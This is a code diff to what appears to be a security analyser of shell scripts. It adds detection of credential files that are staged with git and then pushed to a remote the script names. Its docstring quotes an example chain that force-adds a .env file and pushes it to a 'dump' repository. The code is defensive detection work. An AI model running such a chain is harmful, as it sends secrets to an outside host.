@@ -304,6 +304,8 @@ class Analyser:
     cwd: str = ""  # where a `cd` earlier in the script moved to: relative paths are under it
     exported: str = ""  # `env A=1 sh -c '…'`: the assignments the inner shell sees
     downloaded: set[str] = field(default_factory=set)  # files fetched from outside
+    git_remotes: dict[str, str] = field(default_factory=dict)  # `git remote add NAME URL`
+    git_staged: list[str] = field(default_factory=list)  # credential files `git add`ed
 
     # ------------------------------------------------------------------------ entry points
     def text(self, value: str, role: str) -> None:
@@ -1243,6 +1245,20 @@ class Analyser:
             return w.text
         return ""
 
+    def _git_sink(self, pos: list[str], w: Words, j: Judged, argv: list[str]) -> None:
+        """A credential file added to Git in a script, then pushed to a remote the script
+        named (`git remote add m https://github.com/x/dump.git && git add -f .env && … git push
+        m`): the file goes to that remote's host."""
+        sub = pos[0].lower()
+        if sub == "remote" and len(pos) >= 4 and pos[1].lower() in ("add", "set-url"):
+            self.git_remotes[pos[2]] = pos[3]
+        elif sub == "add":
+            self.git_staged.extend(p for p in pos[1:9] if self.table.is_credential(p))
+        elif sub == "push" and self.git_staged and len(pos) >= 2:
+            url = self.git_remotes.get(pos[1], pos[1] if "://" in pos[1] else "")
+            if url:
+                j.sinks.append(Sink(url, list(self.git_staged), False, w.text, argv))
+
     def _local_sinks(self, prog: str, argv: list[str], w: Words, j: Judged, c: Cmd) -> None:
         """Sinks of commands the table has no handler for: copies to other hosts, netcat, mail."""
         pos = [a for a in argv[1:] if not a.startswith("-")]
@@ -1287,6 +1303,8 @@ class Analyser:
                 j.sinks.append(Sink(d, files, True, w.text, argv))
         elif prog in _DNS and pos:
             j.sinks.append(Sink(pos[-1], [], False, w.text, argv))
+        elif prog == "git" and pos:
+            self._git_sink(pos, w, j, argv)
         elif prog == "ssh" and pos:
             j.sinks.append(
                 Sink(
